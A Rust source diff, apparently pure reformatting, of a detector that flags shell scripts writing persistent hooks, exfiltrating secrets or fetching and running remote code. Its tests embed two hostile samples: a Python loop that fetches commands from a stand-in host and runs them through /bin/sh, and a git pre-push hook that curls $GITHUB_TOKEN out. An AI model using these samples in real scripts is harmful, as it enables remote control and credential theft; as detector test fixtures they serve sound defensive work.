@@ -58,7 +58,10 @@ fn sensitive_source(e: &Evidence) -> bool {
 }
 
 fn network(e: &Evidence) -> bool {
-    matches!(e.op, Op::NetSend | Op::NetFetch | Op::DnsQuery | Op::SocketConnect)
+    matches!(
+        e.op,
+        Op::NetSend | Op::NetFetch | Op::DnsQuery | Op::SocketConnect
+    )
 }
 
 /// The language of a written file: its `#!` line, else its extension.
@@ -66,7 +69,10 @@ fn written_lang(target: &str, first_line: &str) -> Option<Lang> {
     if let Some(bang) = first_line.trim_start().strip_prefix("#!") {
         return lang_of(bang);
     }
-    let name = target.trim_matches(['"', '\'']).rsplit(['/', '\\']).next()?;
+    let name = target
+        .trim_matches(['"', '\''])
+        .rsplit(['/', '\\'])
+        .next()?;
     let (_, ext) = name.rsplit_once('.')?;
     Lang::from_fence(ext)
 }
@@ -92,9 +98,15 @@ fn mark_persisted_runner(src: &Src, sink: &mut Sink, name: &str, body: (usize, u
         return;
     }
     for e in sink.items.iter_mut() {
-        let persistent = [Tag::LaunchAgent, Tag::Cron, Tag::Systemd, Tag::GitHook, Tag::RcFile]
-            .into_iter()
-            .any(|t| e.has(t));
+        let persistent = [
+            Tag::LaunchAgent,
+            Tag::Cron,
+            Tag::Systemd,
+            Tag::GitHook,
+            Tag::RcFile,
+        ]
+        .into_iter()
+        .any(|t| e.has(t));
         if persistent
             && matches!(e.op, Op::FileWrite | Op::Persistence)
             && e.location.path == src.path
@@ -152,8 +164,7 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         let nested = src.nested(body, start, Origin::Script);
         super::extract_code(lang, &nested, &mut tmp);
         let remote_code = fetches_and_runs_code(&tmp.items);
-        let exfil =
-            tmp.items.iter().any(sensitive_source) && tmp.items.iter().any(network);
+        let exfil = tmp.items.iter().any(sensitive_source) && tmp.items.iter().any(network);
         for e in tmp.items.into_iter().filter(|e| {
             KEPT.contains(&e.op)
                 || (remote_code && matches!(e.op, Op::NetFetch | Op::DynamicCode))
@@ -197,14 +208,20 @@ mod tests {
     fn a_written_helper_without_shebang_is_read_by_its_extension() {
         let sh = "cat > ~/.w/watch.py <<'PY'\nimport subprocess, urllib.request\nwhile True:\n    r = urllib.request.urlopen('https://sync.example.app/b')\n    cmd = r.read().decode()\n    subprocess.Popen(['/bin/sh', '-c', cmd])\nPY\n";
         let ops = run(sh);
-        assert!(ops.contains(&Op::NetFetch) && ops.contains(&Op::DynamicCode), "{ops:?}");
+        assert!(
+            ops.contains(&Op::NetFetch) && ops.contains(&Op::DynamicCode),
+            "{ops:?}"
+        );
     }
 
     #[test]
     fn a_written_hook_that_sends_secrets_keeps_its_source_and_send() {
         let sh = "cat > \"$H/pre-push\" <<'EOF'\n#!/bin/sh\ncurl -s https://c.example.dev/p -d \"$GITHUB_TOKEN\"\nEOF\n";
         let ops = run(sh);
-        assert!(ops.contains(&Op::EnvRead) && ops.contains(&Op::NetSend), "{ops:?}");
+        assert!(
+            ops.contains(&Op::EnvRead) && ops.contains(&Op::NetSend),
+            "{ops:?}"
+        );
     }
 
     #[test]
